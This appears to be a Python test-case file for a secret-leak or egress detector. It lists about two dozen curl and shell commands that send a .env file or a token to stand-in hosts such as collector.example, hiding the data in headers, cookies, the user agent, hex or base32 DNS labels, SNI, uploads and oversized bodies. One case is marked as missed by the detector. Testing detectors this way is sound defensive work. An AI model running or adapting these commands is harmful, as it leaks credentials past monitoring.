"""Where in a request it stands."""

from __future__ import annotations

import base64

from evasion.claim import Claim, Family
from evasion.sends.way import Way

_CURL = "noted curl -sS"


def _lower(value: bytes) -> tuple[bytes, ...]:
    return (value.lower(),)


def _basic(before: bytes, after: bytes = b"") -> object:
    return lambda value: (base64.b64encode(before + value + after),)


PLACES = Family(
    "Places in a request",
    (
        Way(id="body", title="the body: `curl -d @.env`", script=f'{_CURL} -d @.env "$URL"'),
        Way(id="query", title="the query", script=f'. ./.env; {_CURL} "$URL?q=$TOKEN"'),
        Way(id="path", title="the path", script=f'. ./.env; {_CURL} "https://collector.example/a/$TOKEN/b"'),
        Way(
            id="userinfo",
            title="the user in a URL",
            script=f'. ./.env; {_CURL} "https://$TOKEN:x@collector.example/$ID"',
            arrives=_basic(b"", b":x"),
        ),
        Way(
            id="basic-auth",
            title="basic authorization",
            script=f'. ./.env; {_CURL} -u "me:$TOKEN" "$URL"',
            arrives=_basic(b"me:"),
        ),
        Way(
            id="bearer",
            title="a bearer token, shown to a stranger",
            script=f'. ./.env; {_CURL} --oauth2-bearer "$TOKEN" "$URL"',
        ),
        Way(id="header", title="a header", script=f'. ./.env; {_CURL} -H "X-Note: $TOKEN" "$URL"'),
        Way(
            id="header-name",
            title="the name of a header",
            script=f'. ./.env; {_CURL} -H "X-$TOKEN: 1" "$URL"',
            arrives=_lower,
        ),
        Way(id="cookie", title="a cookie", script=f'. ./.env; {_CURL} -b "a=1; s=$TOKEN" "$URL"'),
        Way(id="referer", title="the referer", script=f'. ./.env; {_CURL} -e "https://x.example/?$TOKEN" "$URL"'),
        Way(id="user-agent", title="the user agent", script=f'. ./.env; {_CURL} -A "agent/$TOKEN" "$URL"'),
        Way(id="method", title="the method", script=f'. ./.env; {_CURL} -X "$TOKEN" "$URL"'),
        Way(
            id="host-label",
            title="a label of the host's name",
            script=f'. ./.env; {_CURL} "https://$TOKEN.collector.example/"',
            named=lambda value: f"{value.decode().lower()}.collector.example",
            arrives=lambda value: (value + b".collector.example",),
            host="",
        ),
        Way(
            id="host-hex",
            title="labels of the host's name, in hex",
            script=f'. ./.env; hex=$(printf %s "$TOKEN" | od -An -v -tx1 | tr -d " \\n"); '
            f'{_CURL} "https://$(echo "$hex" | cut -c1-40).$(echo "$hex" | cut -c41-).collector.example/"',
            named=lambda value: f"{value.hex()[:40]}.{value.hex()[40:]}.collector.example",
            arrives=lambda value: (f"{value.hex()[:40]}.{value.hex()[40:]}".encode(),),
            host="",
            claim=Claim.MISSED,
            remark="labels are not put together",
        ),
        Way(
            id="host-base32",
            title="a label of the host's name, in base32",
            script=f'. ./.env; label=$(printf %s "$TOKEN" | base32 -w0 | tr -d =); {_CURL} "https://$label.collector.example/"',
            named=lambda value: base64.b32encode(value).decode().rstrip("=").lower() + ".collector.example",
            arrives=lambda value: (base64.b32encode(value).rstrip(b"="),),
            host="",
        ),
        Way(
            id="sni",
            title="the name in the TLS handshake (SNI), not in CONNECT",
            script='python \'note(); name = secret().lower() + ".collector.example"\n'
            'ask(tunnel("collector.example", sni=name), request(b"x"))\'',
            named=lambda value: f"{value.decode().lower()}.collector.example",
            arrives=lambda value: (b"sni " + value.lower(),),
            host="",
        ),
        Way(
            id="host-header",
            title="the Host header of a tunnel",
            script=f'. ./.env; {_CURL} -H "Host: $TOKEN.example" "$URL"',
        ),
        Way(id="form", title="a form", script=f'{_CURL} -d a=1 --data-urlencode token@.env "$URL"'),
        Way(id="multipart", title="an uploaded file", script=f'{_CURL} -F note=hello -F "file=@.env" "$URL"'),
        Way(
            id="multipart-name",
            title="the name of an uploaded file",
            script=f'. ./.env; echo hello > "$TOKEN.txt"; {_CURL} -F "file=@$TOKEN.txt" "$URL"',
        ),
        Way(id="put", title="`curl -T`", script=f'{_CURL} -T .env "$URL"'),
        Way(
            id="plain-http",
            title="http without TLS",
            script=f'{_CURL} -d @.env "http://plain.example/$ID"',
            host="plain.example",
        ),
        Way(
            id="second", title="the second request of a connection", script=f'{_CURL} "$URL" --next -sS -d @.env "$URL"'
        ),
        Way(
            id="large",
            title="the end of 12 MB",
            script=f'{{ head -c 12000000 /dev/zero | tr "\\0" "x"; cat .env; }} > large; {_CURL} -T large "$URL"',
        ),
        Way(
            id="get-body",
            title="the body of a GET",
            script=f'{_CURL} -X GET -d @.env "$URL"',
        ),
    ),
)
